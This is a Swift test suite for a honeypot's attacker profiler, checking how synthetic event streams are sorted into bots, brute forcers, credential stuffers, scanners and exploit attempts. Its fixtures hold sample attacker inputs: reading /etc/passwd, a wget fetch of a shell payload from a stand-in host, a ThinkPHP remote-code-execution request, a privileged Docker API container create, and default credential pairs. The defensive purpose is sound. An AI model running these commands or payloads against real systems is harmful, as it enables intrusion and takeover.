import DecnetCore
import Foundation
import Testing

@testable import DecnetIntel

/// The profiler on the event streams our services write for each kind of attacker: what class, which phases in
/// which order, which tools with which evidence. Timing alone decides nothing a type of event can decide.
@Suite struct AttackerProfilerTests {
    static let start = Date(timeIntervalSince1970: 1_795_000_000)

    static func event(
        _ id: EventID,
        _ offset: TimeInterval,
        service: ServiceKind = "ssh",
        decky: String = "web01",
        session: String = "s1",
        port: Int = 22,
        _ fields: [(String, String)] = []
    ) -> HoneypotEvent {
        var event = IdentityClusteringTests.event(
            "198.51.100.7",
            id,
            offset,
            service: service,
            decky: decky,
            session: session,
            port: port,
            fields
        )
        event.time = Self.start.addingTimeInterval(offset)
        return event
    }

    static func command(
        _ offset: TimeInterval,
        _ line: String,
        decky: String = "web01",
        session: String = "s1"
    ) -> HoneypotEvent {
        let words = line.split(separator: " ", maxSplits: 1).map(String.init)
        var fields = [("command", words[0])]
        if words.count > 1 { fields.append(("args", words[1])) }
        return Self.event(.commandInput, offset, decky: decky, session: session, fields)
    }

    /// A person on a shell: looks around, fetches a payload, then moves to a second decky.
    static let human: [HoneypotEvent] = [
        Self.event(
            .clientFingerprint,
            0,
            [("client_version", "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6"), ("hassh", "x")]
        ),
        Self.event(.loginSuccess, 2, [("username", "root"), ("password", "toor")]),
        Self.command(6.2, "id"),
        Self.command(9.8, "uname -a"),
        Self.command(16.1, "cat /etc/passwd"),
        Self.command(24.5, "wget http://203.0.113.9/p.sh"),
        Self.event(.loginSuccess, 41, decky: "db01", session: "s2", [("username", "root"), ("password", "toor")]),
        Self.command(47, "ls -la", decky: "db01", session: "s2"),
    ]

    @Test func aPersonOnAShellIsInteractiveAndItsPhasesComeInOrder() {
        let profile = AttackerProfiler.profile(Self.human.shuffled())
        #expect(profile.behaviour == .interactive, "\(profile.evidence)")
        #expect(profile.evidence.first?.contains("typed a median") == true)
        let order = profile.phases.map(\.phase)
        #expect(
            order == [.credentialAccess, .discovery, .execution, .commandAndControl, .lateralMovement],
            "\(order)"
        )
        let c2 = profile.phases.first { $0.phase == .commandAndControl }
        #expect(c2?.first == Self.start.addingTimeInterval(24.5) && c2?.evidence.contains("wget") == true)
        #expect(profile.phases.last?.evidence == "moved from web01 to db01")
        #expect(profile.tools.map(\.tool) == ["OpenSSH client"])
        #expect(profile.tools.first?.source.contains("OpenSSH") == true)
        #expect((profile.timing.commandPause ?? 0) > 3)
        #expect(profile.score >= 80)
    }

    /// A banner can say anything; the HASSH and JA4 name the client that really connected.
    @Test func fingerprintsNameTheClientWhateverItsBanner() {
        let events = [
            Self.event(
                .clientFingerprint,
                0,
                [
                    ("client_version", "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u6"),
                    ("hassh", "be31134219a24899a8a0c29c7797ba94"),
                ]
            ),
            Self.event(
                .clientFingerprint,
                5,
                service: "http",
                port: 443,
                [("ja4", "t13i4311h1_c7886603b240_b26ce05bbdd6")]
            ),
        ]
        let tools = AttackerProfiler.profile(events).tools
        #expect(tools.map(\.tool) == ["OpenSSH client", "libssh (hydra, nmap's ssh scripts)", "python-requests"])
        let libssh = tools[1]
        #expect(libssh.evidence == "hassh is \"be31134219a24899a8a0c29c7797ba94\": be31134219a24899a8a0c29c7797ba94")
        #expect(libssh.source.hasPrefix("measured here"))
        #expect(tools[2].evidence.hasPrefix("ja4 is"))
    }

    @Test func theSameCommandsAtMachineSpeedAreABot() {
        let events =
            [Self.event(.loginSuccess, 0, [("username", "root"), ("password", "root")])]
            + ["id", "uname -a", "cat /proc/cpuinfo", "nproc"].enumerated().map {
                Self.command(0.4 + Double($0.offset) * 0.05, $0.element)
            }
        let profile = AttackerProfiler.profile(events)
        #expect(profile.behaviour == .bot, "\(profile.evidence)")
    }

    @Test func oneUserManyPasswordsIsBruteForceAndManyPairsIsCredentialStuffing() {
        let brute =
            (0..<12).map {
                Self.event(
                    .loginFailed,
                    Double($0) * 0.7,
                    session: "b\($0)",
                    [("username", "root"), ("password", "pw\($0)")]
                )
            } + [Self.event(.clientFingerprint, 0, [("client_version", "SSH-2.0-libssh_0.10.6")])]
        let forcer = AttackerProfiler.profile(brute)
        #expect(forcer.behaviour == .bruteForcer, "\(forcer.evidence)")
        #expect(forcer.tools.first?.tool.hasPrefix("libssh") == true)
        #expect(forcer.tools.first?.evidence.contains("begins with \"SSH-2.0-libssh_\"") == true)
        #expect(forcer.phases.map(\.phase) == [.credentialAccess])

        let list = [("admin", "admin"), ("root", "123456"), ("oracle", "oracle"), ("pi", "raspberry")]
        let stuffing = list.enumerated().flatMap { index, pair in
            ["ssh", "ftp"].map { service in
                Self.event(
                    .loginFailed,
                    Double(index) * 2,
                    service: ServiceKind(rawValue: service),
                    session: "\(service)\(index)",
                    port: service == "ssh" ? 22 : 21,
                    [("username", pair.0), ("password", pair.1)]
                )
            }
        }
        let stuffer = AttackerProfiler.profile(stuffing)
        #expect(stuffer.behaviour == .credentialStuffer, "\(stuffer.evidence)")
        #expect(stuffer.evidence.first?.contains("4 user names and 4 passwords against ftp, ssh") == true)
    }

    @Test func aScanIsReconnaissanceAndNamesItsTool() {
        let events = [
            Self.event(
                .scanDetected,
                0,
                service: "sniffer",
                [
                    ("scan_type", "syn"), ("tool", "nmap"), ("tool_basis", "SYN window 1024, options MSS only"),
                    ("ports", "1000"), ("peak_pps", "2400"),
                ]
            ),
            Self.event(.scanProgress, 0.5, service: "sniffer", [("scan_type", "syn"), ("peak_pps", "3100")]),
            Self.event(.connectionOpen, 1, service: "http", port: 80),
            Self.event(
                .commandInput,
                1.2,
                service: "http",
                port: 80,
                [
                    ("command", "GET"), ("args", "/"),
                    ("user_agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
                ]
            ),
        ]
        let profile = AttackerProfiler.profile(events)
        #expect(profile.behaviour == .scanner, "\(profile.evidence)")
        #expect(profile.phases.map(\.phase) == [.reconnaissance])
        #expect(profile.tools.map(\.tool) == ["nmap"])
        #expect(profile.tools.first?.evidence.contains("scan.detected tool=nmap") == true)
        // Its speed: the highest rate the packet layer measured.
        #expect(profile.timing.scanPeakRate == 3100)
        #expect(profile.evidence.first?.hasSuffix("1000 ports, up to 3100 packets/s)") == true, "\(profile.evidence)")
    }

    @Test func anExploitInARequestOutranksEverythingElse() {
        let events = [
            Self.event(
                .commandInput,
                0,
                service: "http",
                port: 80,
                [
                    ("command", "GET"),
                    ("args", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"),
                    ("user_agent", "Go-http-client/1.1"),
                ]
            )
        ]
        let profile = AttackerProfiler.profile(events)
        #expect(profile.behaviour == .exploitAttempt, "\(profile.evidence)")
        #expect(profile.evidence.first?.contains("ThinkPHP") == true)
        #expect(profile.tools.map(\.tool) == ["Go net/http"])
        // A docker API request is an API call, not a shell command; its privileged create is the exploit.
        let docker = AttackerProfiler.profile([
            Self.event(
                .commandInput,
                0,
                service: "docker_api",
                port: 2375,
                [("command", "POST"), ("args", "/v1.43/containers/create")]
            ),
            Self.event(
                .payloadReceived,
                0.1,
                service: "docker_api",
                port: 2375,
                [("preview", "{\"Image\":\"alpine\",\"HostConfig\":{\"Privileged\":true}}")]
            ),
        ])
        #expect(docker.behaviour == .exploitAttempt, "\(docker.evidence)")
    }

    /// Shifting every timestamp moves the phases' times and changes nothing else.
    @Test func aShiftInTimeChangesNoConclusion() {
        let shifted = Self.human.map { event -> HoneypotEvent in
            var copy = event
            copy.time = event.time.addingTimeInterval(86_400 * 3 + 0.5)
            return copy
        }
        let before = AttackerProfiler.profile(Self.human), after = AttackerProfiler.profile(shifted)
        #expect(before.behaviour == after.behaviour && before.evidence == after.evidence)
        #expect(before.phases.map(\.phase) == after.phases.map(\.phase) && before.tools == after.tools)
        #expect(before.timing == after.timing && before.score == after.score)
    }

    @Test func nothingToGoOnIsUnknown() {
        #expect(AttackerProfiler.profile([]).behaviour == .unknown)
        #expect(AttackerProfiler.profile([Self.event(.connectionOpen, 0)]).behaviour == .unknown)
    }

    @Test func everySignatureNamesItsSource() {
        for signature in ToolSignature.table {
            #expect(!signature.source.isEmpty && !signature.tool.isEmpty)
        }
        #expect(ToolSignature.first(.sshClient, "SSH-2.0-libssh_0.10.6")?.tool.hasPrefix("libssh") == true)
        #expect(ToolSignature.first(.sshClient, "SSH-2.0-libssh2_1.10.0")?.tool == "libssh2")
    }
}
